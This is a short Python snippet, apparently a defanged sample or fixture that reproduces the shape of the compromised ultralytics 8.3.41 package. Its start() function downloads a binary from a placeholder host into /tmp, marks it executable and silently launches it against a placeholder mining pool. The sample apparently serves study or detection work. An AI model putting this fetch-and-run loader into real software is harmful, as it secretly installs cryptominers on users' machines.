# Defanged shape of ultralytics 8.3.41: fetch a "miner", chmod, start it.
import os
import subprocess
import urllib.request


def start():
    dst = "/tmp/fixture_runner"
    urllib.request.urlretrieve("https://assets.example.invalid/runner-x64", dst)
    os.chmod(dst, 0o755)
    subprocess.Popen([dst, "-o", "pool.example.invalid:443"], stdout=subprocess.DEVNULL)
